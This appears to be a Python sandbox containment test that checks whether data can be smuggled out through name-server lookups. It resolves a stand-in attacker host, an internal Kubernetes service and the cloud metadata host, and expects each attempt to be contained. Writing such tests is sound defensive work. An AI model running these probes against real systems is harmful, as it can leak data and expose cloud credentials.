"""Ask for names.

Tries: to smuggle data out as questions to a name server.
Expect: contained
"""

import socket

for name in (
    "example.org",
    "kubernetes.default.svc",
    "data.attacker.example",
    "metadata.google.internal",
):
    attempt(f"ask for {name}", socket.gethostbyname, name)
